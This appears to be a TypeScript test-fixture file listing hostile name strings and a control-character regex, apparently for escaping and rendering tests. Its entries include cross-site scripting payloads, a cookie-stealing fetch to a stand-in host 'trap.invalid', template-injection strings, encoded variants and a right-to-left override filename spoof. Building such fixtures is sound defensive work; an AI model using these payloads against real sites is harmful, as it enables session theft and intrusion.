/** Where hostile texts try to go. */
export const TRAP = 'trap.invalid'

const trap = `fetch('//${TRAP}/'+document.cookie)`

/**
 * Texts that try to become code, addresses, other elements, the end of a block, or to be read in another order. None is
 * longer than a name may be.
 */
export const HOSTILE: readonly string[] = [
  `<script>${trap}</script>`,
  `"><img src=//${TRAP}/1 onerror=alert(1)>`,
  `'><svg/onload=alert(2)>`,
  `</script><script src=//${TRAP}/2></script>`,
  `</title></textarea></style><iframe src=javascript:alert(3)>`,
  `<math><mtext><table><mglyph><style><img src onerror=alert(4)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(5)>">`,
  `<svg><style><img src="</style><img src=//${TRAP}/3 onerror=alert(6)>">`,
  `<a href="javascript:alert(7)">x</a><base href=//${TRAP}/>`,
  `javascript:alert(8)//`,
  `data:text/html,<script>alert(9)</script>`,
  `x" onfocus="alert(10)" autofocus="`,
  `x' style='background:url(//${TRAP}/4)' '`,
  `"><meta http-equiv="refresh" content="0;url=//${TRAP}/5">`,
  `<!--><img src=//${TRAP}/6>-->`,
  `]]><![CDATA[<img src=//${TRAP}/7>`,
  `{{constructor.constructor('alert(11)')()}}`,
  `\${alert(12)} #{7*7} <%= 7*7 %>`,
  `&lt;img src=x onerror=alert(13)&gt; &#60;b&#62;`,
  `\\u003cimg src=x onerror=alert(14)\\u003e \\x3cb\\x3e`,
  `%3Cscript%3Ealert(15)%3C/script%3E %252e`,
  `شركة \u202Efdp.exe\u202C النور`,
  `\u2067قلب\u2069 ABC \u2066123\u2069 \u200Fنص`,
  `Zero\u200Bwidth\u200D \u2060word\uFEFF`,
  `Line\u2028separator\u2029 and\u0085next`,
  `😀👩‍🚀🇸🇦 شركة Emoji 🧿 1,000.00`,
  `مؤسسة ABC 2030 لـ Trading (فرع 7) +966`,
  `__proto__ constructor toString`,
  `NaN undefined null [object Object]`,
  `W${'w'.repeat(140)}`,
]

/** Control and direction characters that no stored line of text may hold. */
// oxlint-disable-next-line no-control-regex -- these are what is looked for
export const UNSEEN = /[\u0000-\u001F\u007F-\u009F\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/
